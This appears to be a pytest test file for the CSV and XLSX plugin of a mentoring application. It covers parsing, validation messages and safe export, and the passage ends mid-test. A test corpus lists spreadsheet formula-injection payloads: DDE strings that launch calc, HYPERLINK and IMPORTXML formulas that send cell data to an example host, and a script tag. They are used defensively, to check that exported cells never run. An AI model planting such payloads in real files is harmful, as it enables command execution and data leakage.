"""The plugin csv: what it reads, what it refuses and says about it, and what never comes alive."""

from __future__ import annotations

import io
import os
import re
import subprocess
import sys
import zipfile
from collections.abc import Mapping
from datetime import date
from pathlib import Path
from time import struct_time
from typing import Any

import openpyxl
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from mentorkit.domain.fields import Field, parse_fields
from mentorkit.domain.frozen import Frozen
from mentorkit.domain.participants import Lead
from mentorkit.domain.programs import Program
from mentorkit.errors import Invalid
from mentorkit.hooks import Batch, Inbound, RecruitmentSource, Sheet
from mentorkit.hooks.registry import Registry
from mentorkit.testing.contracts import SourceContract
from mentorkit.testing.samples import SampleContext
from mentorkit_csv.separated import guard, read_csv, unguard
from mentorkit_csv.source import CsvSource
from mentorkit_csv.table import Limits
from mentorkit_csv.workbook import read_xlsx

DATA = Path(
    os.environ.get("MENTORKIT_TEST_DATA", Path(__file__).parents[2].parent / "shared" / "data")
)


def declared(**entries: Any) -> dict[str, Field]:
    fields, problems = parse_fields(entries)
    assert not problems
    return fields


def receive(body: str | bytes, filename: str = "mentees.csv", **options: Any) -> Batch:
    source = CsvSource(options.pop("settings", None))
    fields, role = options.pop("fields", None), options.pop("role", "mentee")
    program = options.pop("program", None)
    sent = body.encode() if isinstance(body, str) else body
    return source.receive(
        SampleContext(program=program),
        Inbound(body=sent, filename=filename),
        role=role,
        fields=fields,
        options=options,
    )


def in_zone(zone: str) -> Program:
    return Program(
        id="p", tenant="sample", key="p", name=Frozen(), zone=zone, created_at=SampleContext.now
    )


def only(batch: Batch) -> Lead:
    (lead,) = batch.leads
    return lead


def told(batch: Batch) -> list[str]:
    return [str(problem) for problem in batch.problems]


def create_xlsx(*rows: tuple[Any, ...]) -> bytes:
    book: Any = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


class TestContract(SourceContract):
    """The source keeps what every source keeps."""

    plugin = "csv"
    good = Inbound(filename="good.csv", body=b"ref,name,age\n1,Ana,30\n2,Bo,\n")
    bad = Inbound(filename="bad.csv", body=b"ref,name,age\n1,Ana,old\n,Bo,3\n3,Cy,40\n")
    formats = (Inbound(filename="good.xlsx", body=create_xlsx(("ref", "name"), ("1", "Ana"))),)
    fields: Mapping[str, Field] = declared(age={"kind": "number"})


# --------------------------------------------------------------------------- what becomes of a row


def test_a_row_becomes_a_lead_with_its_own_fields_and_its_profile() -> None:
    lead = only(
        receive(
            "Ref,First name,Surname,E-mail,Phone,Time zone,Year of birth,Capacity,Company,Sector,"
            "Started,Country,Languages,choices,ignored\n"
            "m1,Ana,Silva,ana@example.org,+55 81 5550 1,America/Recife,1980,2,Silva Ltd,food,2015,"
            "BR,pt;es,m2; m3,x\n",
            fields=declared(languages={"kind": "options", "options": ["pt", "es", "en"]}),
        )
    )
    assert (lead.key, lead.name, lead.email, lead.phone) == (
        "m1", "Ana Silva", "ana@example.org", "+55 81 5550 1",
    )  # fmt: skip
    assert (lead.zone, lead.born, lead.capacity, lead.role) == ("America/Recife", 1980, 2, "mentee")
    assert dict(lead.business or {}) == {
        "name": "Silva Ltd", "sector": "food", "country": "BR", "started": 2015,
    }  # fmt: skip
    assert dict(lead.profile) == {"languages": ("pt", "es"), "choices": ("m2", "m3")}
    assert (lead.source, lead.place) == ("csv", "mentees.csv, line 2")


def test_a_country_that_the_program_asks_for_is_in_the_profile_as_well() -> None:
    fields = declared(country={"options": {"KE": "Kenya"}})
    firm = only(receive("ref,business,country\na,Shop,kenya\n", fields=fields))
    assert firm.profile["country"] == "KE"
    assert firm.business is not None
    assert firm.business["country"] == "kenya"
    alone = only(receive("ref,country\na,Kenya\n", fields=fields))
    assert (alone.profile["country"], alone.business) == ("KE", None)


def test_mapped_columns_are_found_whatever_their_case_and_others_are_ignored() -> None:
    lead = only(
        receive(
            "Email Address,GRADE,secret\na@example.org,heo,x\n",
            columns={"email address": "ref", "grade": "grade"},
            fields=declared(grade={"ordered": ["EO", "HEO"]}),
        )
    )
    assert (lead.key, dict(lead.profile)) == ("a@example.org", {"grade": "HEO"})


SPOKEN = (
    ("Ref", "Spoken languages", "languages", "Full name"),
    ("a", "sw;en", "fr", "Ana"),
)


@pytest.mark.parametrize(
    ("body", "filename"),
    [("\n".join(",".join(row) for row in SPOKEN), "a.csv"), (create_xlsx(*SPOKEN), "a.xlsx")],
    ids=["csv", "xlsx"],  # a workbook holds the time at which it was made
)
def test_a_mapped_column_adds_to_those_whose_names_fit_and_goes_before_them(
    body: str | bytes, filename: str
) -> None:
    batch = receive(
        body,
        filename,
        columns={"Spoken languages": "languages"},
        fields=declared(languages={"kind": "options"}),
    )
    lead = only(batch)
    assert (lead.key, lead.name, dict(lead.profile)) == ("a", "Ana", {"languages": ("sw", "en")})
    assert told(batch) == []


def test_a_mapped_column_feeds_only_what_it_is_mapped_to() -> None:
    lead = only(receive("ref,email,role\n1,Ana,baker\n", columns={"email": "name", "role": "job"}))
    assert (lead.name, lead.email, dict(lead.profile)) == ("Ana", None, {"job": "baker"})


def test_a_mapped_column_of_no_declared_field_is_text() -> None:
    lead = only(receive("id,org\na,Peace\n", columns={"id": "ref", "org": "organisation"}))
    assert dict(lead.profile) == {"organisation": "Peace"}


def test_labels_in_any_language_name_a_column() -> None:
    fields = declared(stage={"label": {"en": "Stage", "es": "Etapa"}, "options": ["a", "b"]})
    assert only(receive("ref,ETAPA\n1,b\n", fields=fields)).profile["stage"] == "b"


def test_an_email_stands_in_for_a_key_and_that_is_said() -> None:
    batch = receive("email\nAna@Example.org\n")
    assert only(batch).key == "ana@example.org"
    assert "no column for ref" in told(batch)[0]


def test_a_column_called_role_that_holds_jobs_is_left_out_where_the_side_is_known() -> None:
    batch = receive("ref,role\n1,CEO\n2,director\n", role="mentor", jobs=True)
    assert [lead.role for lead in batch.leads] == ["mentor", "mentor"]
    (note,) = batch.problems
    assert 'column "role" holds no roles' in note.message
    assert not receive("ref,role\n1,CEO\n", role="mentor").leads
    mixed = receive("ref,role\n1,CEO\n2,mentor\n", role="mentor", jobs=True)
    assert [lead.key for lead in mixed.leads] == ["2"]


def test_the_role_of_a_row_goes_before_the_role_of_the_file() -> None:
    batch = receive("ref,role\n1,Mentor\n2,\n3,both\n", role="mentee")
    assert [lead.role for lead in batch.leads] == ["mentor", "mentee", "both"]
    nobody = receive("ref\n1\n", role=None)
    assert told(nobody) == [
        "mentees.csv, line 2, column role: say who this is: mentee, mentor or both"
    ]


def test_a_capacity_is_what_the_row_says_else_the_default_else_nothing() -> None:
    rows = "ref,capacity\n1,3\n2,\n"
    assert [lead.capacity for lead in receive(rows, default_capacity=5).leads] == [3, 5]
    assert [lead.capacity for lead in receive(rows).leads] == [3, None]


# --------------------------------------------------------------------------- files as they come


@pytest.mark.parametrize(
    ("body", "note"),
    [
        ("ref,name\n1,Zoë\n".encode(), False),
        ("ref,name\n1,Zoë\n".encode("utf-8-sig"), False),
        ("ref,name\n1,Zoë\n".encode("utf-16"), False),
        (b"\xfe\xff" + "ref,name\n1,Zoë\n".encode("utf-16-be"), False),
        ("ref,name\n1,Zoë\n".encode("cp1252"), True),
        (b"ref;name\r\n1;Zo\xc3\xab\r\n", False),
        ("ref\tname\n1\tZoë\n".encode(), False),
        ("sep=;\nref;name\n1;Zoë\n".encode(), False),
        ("ref,name\r1,Zoë\r".encode(), False),
        ('"ref","name"\n"1","Zoë"'.encode(), False),
    ],
    ids=["utf8", "bom", "utf16", "utf16be", "cp1252", "semicolon", "tab", "sep", "cr", "quoted"],
)
def test_encodings_and_delimiters_are_recognised(body: bytes, note: bool) -> None:
    batch = receive(body)
    assert only(batch).name == "Zoë"
    assert [("Windows-1252" in one) for one in told(batch)] == [True] * note


def test_the_header_decides_the_delimiter_even_with_commas_inside_names() -> None:
    batch = receive('ref;"name, and surname";name\n1;"x, y";Ana\n')
    assert only(batch).name == "Ana"


def test_one_damaged_letter_does_not_garble_the_other_rows() -> None:
    batch = receive("ref,name\n1,Zoë\n2,José\n".encode() + b"3,Ren\xe9\n")
    assert [lead.name for lead in batch.leads] == ["Zoë", "José"]
    (problem,) = batch.problems
    assert problem.place == "mentees.csv, line 4, column name"
    assert "characters that cannot be stored" in problem.message


def test_lines_are_physical_lines_even_after_quoted_newlines_and_blank_ones() -> None:
    batch = receive('ref,about,capacity\n1,"two\nlines",1\n\n2,x,none\n', fields=declared(about={}))
    assert only(batch).profile["about"] == "two\nlines"
    assert batch.problems[0].place == "mentees.csv, line 5, column capacity"


def test_bad_rows_are_told_by_line_and_column_and_good_ones_stay() -> None:
    grade = declared(grade={"ordered": ["EO", "HEO"]}, hours={"kind": "hours"})
    batch = receive(
        "ref,email,grade,hours,born,zone,phone,locale\n"
        "1,a@example.org,EO,mon 8-9,1990,UTC,123 456,pt-BR\n"
        "2,bob@example,XX,someday,2090,Atlantis/X,call me,klingonese language\n"
        ",b@example.org,EO,,,,,\n"
        "1,c@example.org,EO,,,,,\n"
        "5,d@example.org,EO,,,,,,surplus\n"
        "6,e@example.org\n"
        '7,f@example.org,"EO"x,,,,,\n'
        "8,\0,EO,,,,,\n"
        f"9,{'x' * 200_000},EO,,,,,\n"
        "10,g@example.org,heo,,,,,\n",
        fields=grade,
    )
    assert [lead.key for lead in batch.leads] == ["1", "b@example.org", "10"]
    places = [problem.place.removeprefix("mentees.csv, ") for problem in batch.problems]
    assert sorted(places) == sorted(
        [
            *(f"line 3, column {one}" for one in
              ("email", "grade", "hours", "born", "zone", "phone", "locale")),
            "line 5", "line 6", "line 7", "line 8", "line 9, column email", "line 10",
        ]
    )  # fmt: skip
    text = "\n".join(told(batch))
    assert "'1', and so is line 2" in text
    assert "write one of: EO, HEO" in text
    assert "'bob@example' is not an e-mail address; write one such as mary@example.org" in text
    assert "has 9 cells where the header has 8" in text


def test_a_row_without_a_key_is_told() -> None:
    batch = receive("ref,name\n,Ana\n2,Bo\n")
    assert only(batch).key == "2"
    assert told(batch)[0].startswith("mentees.csv, line 2, column ref: is empty")


def test_reading_stops_where_quotes_do_not_pair_up() -> None:
    batch = receive('ref,name\n1,Ana\n2,"Bo\n3,Cy\n4,"Di"\n')
    assert [lead.key for lead in batch.leads] == ["1"]
    assert "line 3: a text that begins with a double quote here is never closed" in told(batch)[0]


def test_what_a_program_requires_is_required_of_each_row_and_of_the_header() -> None:
    fields = declared(
        languages={"kind": "options", "required": True},
        skill={"required": True, "roles": ["mentor"]},
    )
    batch = receive("ref,languages\n1,en\n2,\n", fields=fields)
    assert only(batch).key == "1"
    assert "column languages: is empty; this program requires" in told(batch)[0]
    with pytest.raises(Invalid, match="no column for languages"):
        receive("ref\n1\n", fields=fields)


def test_a_misspelt_heading_is_told_beside_what_is_missing_for_it() -> None:
    fields = declared(languages={"kind": "options", "required": True})
    with pytest.raises(Invalid) as caught:
        receive("nmae,Emial,Language\nAna,a@b.org,en\n", fields=fields)
    text = [one.message for one in caught.value.problems]
    assert text[0].startswith("nothing tells people apart")
    assert text[1].endswith('this program requires; if "Language" is it, map it to languages')
    assert text[2:] == [
        'has no column for name; if "nmae" is it, map it to name',
        'has no column for email; if "Emial" is it, map it to email',
    ]
    batch = receive("id,nmae,first name\n1,Ana,Ana\n")
    assert told(batch) == []
    (note,) = told(receive("id,nmae\n1,Ana\n"))
    assert note.endswith('has no column for name; if "nmae" is it, map it to name')


def test_what_is_mapped_the_wrong_way_round_is_told_with_the_right_way() -> None:
    with pytest.raises(Invalid) as caught:
        receive("Nummer,Full name\n1,Ana\n", columns={"id": "Nummer", "name": "Full name"})
    first, second = (one.message for one in caught.value.problems)
    assert first.startswith('turn the two round: write `"Nummer" = "ref"` (left the heading')
    assert second.startswith('turn the two round: write `"Full name" = "name"`')


# --------------------------------------------------------------------------- files that are refused


def test_a_wrong_mapping_is_told_whole_with_the_nearest_names() -> None:
    with pytest.raises(Invalid) as caught:
        receive(
            "email address,organization,grade,grade,note\nx,y,z,z,n\n",
            columns={
                "e-mail adress": "ref",
                "organisation": "organisation",
                "grade": "grade",
                "note": "email",
                "email address": "email",
                "zzz": "about",
            },
        )
    text = str(caught.value)
    assert caught.value.code == "sheet.columns"
    assert 'did you mean "email address"?' in text
    assert 'did you mean "organization"?' in text
    assert "column grade: stands in the header twice, as columns 3 and 4" in text
    assert "feeds email, and so does the column note" in text
    assert 'column zzz: is mapped to about but not there; it has "email address"' in text
    assert len(caught.value.problems) == 5


def test_cells_that_cannot_be_read_are_told_beside_a_required_column_that_is_missing() -> None:
    fields = declared(skills={"required": True}, grade={"kind": "number"})
    with pytest.raises(Invalid) as caught:
        receive("id,grade\n1,high\n2,4\n", fields=fields)
    assert [one.place for one in caught.value.problems] == [
        "mentees.csv",
        "mentees.csv, line 2, column grade",
    ]


def test_a_mapping_may_name_columns_that_only_the_other_side_fills_in() -> None:
    fields = declared(skills={"kind": "options", "roles": ["mentor"]})
    columns = {"id": "ref", "skills": "skills", "places": "capacity"}
    assert only(receive("id\n1\n", columns=columns, fields=fields, role="mentee"))
    with pytest.raises(Invalid) as caught:
        receive("id\n1\n", columns=columns, fields=fields, role="mentor")
    assert len(caught.value.problems) == 2


def test_a_name_that_stands_twice_matters_only_where_it_is_used() -> None:
    assert only(receive("ref,note,note\n1,a,b\n")).key == "1"
    with pytest.raises(Invalid, match="stands in the header twice"):
        receive("ref,name,name\n1,a,b\n")


@pytest.mark.parametrize(
    ("body", "filename", "code"),
    [
        (b"", "a.csv", "sheet.empty"),
        (b" \r\n\t\n", "a.csv", "sheet.empty"),
        (b"\xef\xbb\xbf", "a.csv", "sheet.empty"),
        (b",,,\n,,\n", "a.csv", "sheet.empty"),
        (b"name\nAna\n", "a.csv", "sheet.columns"),
        (b"\x00\x01\x02\x03" * 50, "a.csv", "sheet.not_text"),
        ("ref\n1\n".encode("utf-16-le"), "a.csv", "sheet.not_text"),
        (b"\xff\xfe\x00", "a.csv", "sheet.not_text"),
        (b"ref\n\x81\x8d\x8f\n", "a.csv", "sheet.not_text"),
        (b"\xd0\xcf\x11\xe0" + b"x" * 99, "a.xls", "sheet.old_format"),
        (b"PK\x03\x04" + b"x" * 99, "a.csv", "sheet.wrong_suffix"),
        (b"ref\n1\n", "a.xlsx", "sheet.wrong_suffix"),
        (b"PK\x03\x04" + b"x" * 99, "a.xlsx", "sheet.damaged"),
        (b",".join(b"c%d" % i for i in range(1001)), "a.csv", "sheet.too_many_columns"),
    ],
)
def test_what_is_no_table_is_refused_with_what_to_do(body: bytes, filename: str, code: str) -> None:
    with pytest.raises(Invalid) as caught:
        receive(body, filename)
    assert caught.value.code == code
    assert filename in str(caught.value)


def test_the_size_is_judged_before_anything_is_parsed() -> None:
    limit = {"max_megabytes": 1, "max_rows": 3}
    with pytest.raises(Invalid) as caught:
        receive(b"\x00" * 1_000_001, settings=limit)
    assert caught.value.code == "sheet.too_big"
    assert len(receive("ref\n1\n2\n3\n\n\n", settings=limit).leads) == 3
    with pytest.raises(Invalid) as caught:
        receive("ref\n1\n2\n3\n4\n", settings=limit)
    assert caught.value.code == "sheet.too_many_rows"


@pytest.mark.parametrize(
    "row", ["1\n", "1,2,3\n", '"1"x,2\n'], ids=["short", "long", "broken quotes"]
)
def test_bad_rows_count_like_good_ones(row: str) -> None:
    limit = {"max_rows": 3}
    batch = receive("ref,name\n\n" + row * 2 + "1,Ana\n\n", settings=limit)
    assert (len(batch.leads), len(batch.problems)) == (1, 2)
    with pytest.raises(Invalid) as caught:
        receive("ref,name\n" + row * 4, settings=limit)
    assert caught.value.code == "sheet.too_many_rows"
    assert caught.value.problems == ()


def test_more_wrong_than_anybody_reads_is_told_as_one_thing(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr("mentorkit_csv.table.MAX_PROBLEMS", 5)
    text = "ref,email,phone\n" + "x,no,no\n" * 4
    with pytest.raises(
        Invalid, match=r"More than 5 things are wrong in mentees\.csv, such as"
    ) as e:
        receive(text)
    assert e.value.code == "sheet.too_many_problems"
    errors = create_xlsx(("ref", "name", "about"), *[("#N/A", "#REF!", "#N/A")] * 2)
    with pytest.raises(Invalid, match=r"such as a\.xlsx, row 2, column ref: shows the error"):
        receive(errors, "a.xlsx")


def test_a_name_from_outside_shows_neither_folders_nor_control_characters() -> None:
    batch = receive("ref,capacity\n1,x\n", filename="C:\\tmp\\../\x1b[31mme\u202en.csv")
    assert batch.problems[0].place == "[31mmen.csv, line 2, column capacity"


# --------------------------------------------------------------------------- out, and in again

HOSTILE = (
    "=1+1", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3",
    '=HYPERLINK("http://example.org?x="&A1,"click")', "=WEBSERVICE(A1)", "=DDE(1;2;3)",
    '=IMPORTXML(CONCAT("http://example.org",A1),"//a")', "\t=1+1", "\r=1+1", "\n=1+1", "+491701",
    "-", "+", "=", "@", "'", "''", "'=1+1", "''=1+1", "'''@x", "'+1", "'-", "'\t", "＝1+1", "＋1",
    "－1", "＠x", "=\"a\"&'b'", '"=1+1"', '";=1+1;"', "a,=1+1", "a;=1+1", "a\n=1+1", "a\r\n=1+1",
    "%0A=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "_x003D_1+1", "_x000D_", "x_x0041_y", "1e5",
    "0123", "TRUE", "#N/A", "2020-01-01", "<script>alert(1)</script>", "{=1+1}", "|calc", "%=1",
    "Ada;=2+5+cmd|' /C calc'!A0", "a\t=1+1", "a;'=1+1", "a;''@x,+1", 'a;"=1+1"', "a;'\"=1+1",
    "a;\"'=1+1", '";=1+1', '"\t-1', "a;\r\n;=1", ";;=1", "a,'b;c", "a;=1\n;'+2,\"-3",
    "\x01\x02", "\x0b=1", "\x1f", "\ufffe", "\uffff", "\U0001f600=1", "مرحبا=1", "a\x00b",
)  # fmt: skip


def nasty() -> list[str]:
    """The hostile strings of our own, and the well-known list of naughty ones where it is."""
    path = DATA / "blns.txt"
    lines = path.read_text(encoding="utf-8").splitlines() if path.exists() else []
    return [*HOSTILE, *(line for line in lines if line and not line.startswith("#"))]


def test_our_corpus_is_large_enough() -> None:
    assert len(set(HOSTILE)) >= 40


def runs(cell: str) -> bool:
    """Return whether a spreadsheet could take this cell of a CSV file for a formula."""
    return cell != "" and cell[0] in "=+-@\t\r\n＝＋－＠"


def alive(body: bytes) -> list[str]:
    """Return the cells that could run, whichever separator a spreadsheet splits the file at.

    At another than ours the end of a line may come to stand at the beginning of a cell.
    """
    import csv

    text = body.decode("utf-8-sig")
    return [
        cell
        for delimiter in ",;\t"
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
        for cell in row
        if runs(cell if delimiter == "," else cell.lstrip("\r\n"))
    ]


def cells_of(body: bytes, name: str) -> list[tuple[str, ...]]:
    read = read_xlsx if name.endswith(".xlsx") else read_csv
    return [row.cells for row in read(body, name, Limits()).rows]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_hostile_texts_never_come_alive_and_come_back_exactly(suffix: str) -> None:
    texts = nasty()
    rows = tuple((str(number), text) for number, text in enumerate(texts))
    body = CsvSource().write(Sheet(columns=("ref", "text"), rows=rows), suffix=suffix)
    assert cells_of(body, f"a{suffix}") == list(rows)
    if suffix == ".xlsx":
        page: Any = openpyxl.load_workbook(io.BytesIO(body)).active
        kinds = {cell.data_type for row in page.iter_rows() for cell in row if cell.value}
        assert kinds == {"s"}
    else:
        assert alive(body) == []
        assert body.startswith(b"\xef\xbb\xbf")


def test_only_a_sheet_that_excel_would_garble_begins_with_a_mark() -> None:
    def written(name: str) -> bytes:
        sheet = Sheet(columns=("mentee", "mentor"), rows=(("m1", name),))
        return CsvSource().write(sheet, suffix=".csv")

    assert written("Zoe") == b"mentee,mentor\r\nm1,Zoe\r\n"
    assert written("Zoë") == "\ufeffmentee,mentor\r\nm1,Zoë\r\n".encode()


def test_the_naughty_list_is_read_where_it_is() -> None:
    if not (DATA / "blns.txt").exists():
        pytest.skip(f"shared sample data is not here: {DATA}")
    assert len(nasty()) > len(HOSTILE) + 300


STORABLE = st.text(st.characters(codec="utf-8"), max_size=30)


@settings(max_examples=150)
@given(text=STORABLE | st.text("='+-@\t\r\n\"; ,", max_size=6))
@example(text="'")
@example(text="''=")
def test_guarding_a_text_is_undone_exactly(text: str) -> None:
    assert unguard(guard(text)) == text
    assert not any(runs(part) for part in re.split("[,;\t\r\n]", guard(text)))


@settings(max_examples=60, suppress_health_check=[HealthCheck.too_slow])
@given(
    rows=st.lists(
        st.tuples(STORABLE | st.text("='+-@\t\r\n\"; ,_x041", max_size=8), STORABLE), max_size=6
    ),
    suffix=st.sampled_from([".csv", ".xlsx"]),
)
def test_every_sheet_comes_back_as_it_went_out(rows: list[tuple[str, str]], suffix: str) -> None:
    kept = tuple((str(number), *row) for number, row in enumerate(rows))
    body = CsvSource().write(Sheet(columns=("ref", "=a", "b"), rows=kept), suffix=suffix)
    assert cells_of(body, f"a{suffix}") == list(kept)
    assert suffix == ".xlsx" or alive(body) == []


def test_a_list_is_guarded_item_by_item_and_comes_back() -> None:
    sheet = Sheet(columns=("ref", "skills"), rows=(("1", ["ok", "=1+1", "'-2"]),))
    body = CsvSource().write(sheet, suffix=".csv")
    assert body.splitlines()[1] == b"1,ok;'=1+1;''-2"
    batch = receive(body, fields=declared(skills={"kind": "options"}))
    assert only(batch).profile["skills"] == ("ok", "=1+1", "'-2")


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_numbers_stay_numbers_and_other_values_become_text(suffix: str) -> None:
    values = (-5, 2.5, True, None, ("a", "b"), date(2027, 1, 31), ("=1", "b"))
    body = CsvSource().write(Sheet(columns=tuple("abcdefg"), rows=(values,)), suffix=suffix)
    assert cells_of(body, f"a{suffix}") == [("-5", "2.5", "yes", "", "a;b", "2027-01-31", "=1;b")]
    if suffix == ".csv":
        assert body.splitlines()[1].startswith(b"-5,2.5,yes,,a;b,2027-01-31,'=1;b")
    else:
        page: Any = openpyxl.load_workbook(io.BytesIO(body)).active
        assert page["A2"].value == -5


def test_leads_come_back_from_what_was_written() -> None:
    columns = ("ref", "name", "email", "languages")
    rows = (("1", "=Ana", "a@example.org", ("pt", "en")), ("2", "+Bo", None, ()))
    fields = declared(languages={"kind": "options"})
    for suffix in (".csv", ".xlsx"):
        body = CsvSource().write(Sheet(columns=columns, rows=rows), suffix=suffix)
        batch = receive(body, f"people{suffix}", fields=fields)
        assert [(lead.key, lead.name, lead.email) for lead in batch.leads] == [
            ("1", "=Ana", "a@example.org"), ("2", "+Bo", None),
        ]  # fmt: skip
        assert [lead.profile.get("languages") for lead in batch.leads] == [("pt", "en"), None]


def test_the_same_sheet_is_the_same_bytes_at_another_time(monkeypatch: pytest.MonkeyPatch) -> None:
    sheet = Sheet(columns=("a",), rows=(("x",),))
    first = CsvSource().write(sheet, suffix=".xlsx")
    monkeypatch.setattr("time.localtime", lambda *_: struct_time((2031, 5, 6, 7, 8, 9, 1, 126, 0)))
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        assert b"1980-01-01T00:00:00Z" in archive.read("docProps/core.xml")
    assert CsvSource().write(sheet, suffix=".xlsx") == first


def test_what_cannot_be_written_is_refused() -> None:
    source = CsvSource()
    with pytest.raises(Invalid, match=r"Write one of \.csv, \.xlsx"):
        source.write(Sheet(columns=("a",), rows=()), suffix=".ods")
    with pytest.raises(Invalid, match="as many cells"):
        source.write(Sheet(columns=("a",), rows=(("1", "2"),)), suffix=".csv")
    with pytest.raises(Invalid, match="row 2, column a"):
        source.write(Sheet(columns=("a",), rows=(("x" * 40_000,),)), suffix=".xlsx")


# --------------------------------------------------------------------------- as a plugin


def test_the_registry_offers_the_source_with_its_settings() -> None:
    registry = Registry.load(("csv",), {"csv": {"max_rows": 1}})
    source: RecruitmentSource = registry.recruitment_sources["csv"]
    assert source.suffixes == (".csv", ".xlsx")
    assert registry.checks["csv.xlsx"].run().ok
    with pytest.raises(Invalid, match="more than 1 rows"):
        source.receive(SampleContext(), Inbound(body=b"ref\n1\n2\n"), role="mentor")


def test_xlsx_can_be_switched_off() -> None:
    registry = Registry.load(("csv",), {"csv": {"xlsx": False}})
    assert registry.recruitment_sources["csv"].suffixes == (".csv",)
    assert not registry.checks
    with pytest.raises(Invalid, match=r"files read here: \.csv"):
        receive(create_xlsx(("ref",), ("1",)), "a.xlsx", settings={"xlsx": False})


def test_reading_csv_loads_no_openpyxl() -> None:
    code = (
        "import sys, mentorkit_csv.source as s, types, datetime\n"
        "from mentorkit.hooks import Inbound\n"
        "now = types.SimpleNamespace(now=datetime.datetime.now(), program=None)\n"
        "s.CsvSource().receive(now, Inbound(body=b'ref\\n1\\n'), role='mentee')\n"
        "print([n for n in ('openpyxl', 'sqlalchemy', 'numpy', 'flask') if n in sys.modules])"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "[]"


@pytest.mark.data
@pytest.mark.parametrize(("size", "count"), [("small", 50), ("large", 500)])
def test_real_sheets_are_read_whole(size: str, count: int) -> None:
    folder = DATA / "mentor-match"
    if not folder.exists():
        pytest.skip(f"shared sample data is not here: {folder}")
    import tomllib

    strategy = tomllib.loads((folder / "strategy.toml").read_text(encoding="utf-8"))
    fields, _ = parse_fields(strategy["fields"])
    for side in ("mentee", "mentor"):
        path = folder / size / f"{side}s.csv"
        batch = receive(
            path.read_bytes(), path.name, role=side, fields=fields, columns=strategy["columns"]
        )
        assert (len(batch.leads), batch.problems) == (count, ())
        assert set(batch.leads[0].profile) == {"organisation", "profession", "grade"}


def test_a_cell_that_cannot_be_read_is_not_called_empty_as_well() -> None:
    fields = {
        "languages": Field(
            id="languages", kind="options", required=True, choices=Frozen({"es": "es", "en": "en"})
        )
    }
    batch = receive('ref,languages\n1,"es, en"\n', fields=fields)
    (problem,) = batch.problems
    assert problem.message.startswith("'es, en' is not an option")
    assert problem.message.endswith("; put ; between answers, not ,")


@pytest.mark.parametrize("cell", ["3,5", "+3,5", "3.5"])
def test_a_decimal_comma_is_read_where_semicolons_separate(cell: str) -> None:
    fields = {"years": Field(id="years", kind="number")}
    assert only(receive(f"ref;years\n1;{cell}\n", fields=fields)).profile["years"] == 3.5


def test_a_comma_that_may_be_of_thousands_is_refused_in_every_sheet() -> None:
    fields = {"years": Field(id="years", kind="number")}
    for sheet in ("ref;years\n1;1,234\n", 'ref,years\n1,"1,234"\n'):
        (problem,) = receive(sheet, fields=fields).problems
        assert problem.message == "'1,234' may be 1234 or 1.234; write one of these two"


def test_a_decimal_comma_elsewhere_is_told_how_to_be_written() -> None:
    fields = {"years": Field(id="years", kind="number")}
    (problem,) = receive('ref,years\n1,"3,5"\n', fields=fields).problems
    assert problem.message == "'3,5' is not a number; write 3.5, with a point"


def test_commas_between_answers_that_may_be_anything_are_told_of_and_the_rows_kept() -> None:
    fields = declared(speaks={"kind": "options"}, by={"kind": "options", "separator": ","})
    sheet = 'ref,speaks,by\n1,"en, fr","a, b"\n2,en; fr,a\n3,"sw, en",\n4,"en, uk; fr",\n'
    batch = receive(sheet, fields=fields)
    assert len(batch.leads) == 4
    (problem,) = batch.problems
    assert problem.place == "mentees.csv"
    assert problem.message.startswith("column speaks, line 2, 4 ('en, fr'): is taken for one ans")
    assert problem.message.endswith("; put ; between answers, not ,")


def test_every_column_that_is_not_read_is_told_of() -> None:
    fields = declared(free_hours={"kind": "number"}, shop={})
    sheet = "ref,Hours a month,Notes,My free hours,,My shop\n1,4,x,2,,y\n"
    given: dict[str, Any] = {"fields": fields, "program": in_zone("UTC")}
    unread = [one for one in told(receive(sheet, **given)) if "not read" in one]
    (one,) = unread  # the others are told of as what may be meant
    assert one.startswith('mentees.csv: these columns are not read: "Hours a month", "Notes"; map')
    (one,) = receive("ref,shop,Notes\n1,y,x\n", **given).problems
    assert one.message.startswith('this column is not read: "Notes"')
    meant = {"notes": "nothing"}
    assert receive("ref,shop,Notes\n1,y,x\n", columns=meant, **given).problems == ()
    assert receive("ref,Notes\n1,x\n").problems == (), "nor of what is only paired"


def test_a_phone_number_without_its_country_code_is_told_of_and_kept() -> None:
    sheet = "ref,Mobile\n1,0712 345 678\n2,+254 712 345678\n3,00254 712 345678\n4,712345678\n"
    batch = receive(sheet, program=in_zone("Africa/Nairobi"))
    assert [lead.phone for lead in batch.leads][::3] == ["0712 345 678", "712345678"]
    (problem,) = batch.problems
    assert problem.place == "mentees.csv", "no row is left out for it"
    assert (
        "column Mobile, line 2, 5 ('0712 345 678'): write it with the country's code"
        in problem.message
    )
    many = "ref,phone\n" + "".join(f"{at},0712 {at:06}\n" for at in range(25))
    (problem,) = receive(many, program=in_zone("UTC")).problems
    assert ", 20, 21 and 5 more ('0712 000000'): write" in problem.message
    assert receive(many).problems == (), "who is only paired never signs in"


@pytest.mark.parametrize(
    ("clock", "row", "kept"),
    [
        ("Africa/Nairobi", "Mon 18-20,", (15, 16)),
        ("Africa/Nairobi", "Mon 18-20,Asia/Tokyo", (9, 10)),
        ("Africa/Nairobi", "Mon 1am-2am,", (166,)),
        ("Africa/Nairobi", "15;16,", (15, 16)),
        (None, "Mon 18-20,", (18, 19)),
        (None, "Mon 18-20,Africa/Nairobi", (15, 16)),
    ],
)
def test_weekly_hours_are_of_the_rows_clock_else_of_the_programs(
    clock: str | None, row: str, kept: tuple[int, ...]
) -> None:
    program = in_zone(clock) if clock else None
    fields = declared(free={"kind": "hours"})
    batch = receive(f"ref,free,time zone\n1,{row}\n", fields=fields, program=program)
    assert only(batch).profile["free"] == kept


def test_weekly_times_stay_on_the_rows_clock() -> None:
    fields = declared(free={"kind": "times"})
    batch = receive("ref,free,time zone\n1,Mon 18:15-20;15,Africa/Nairobi\n", fields=fields)
    one = only(batch)
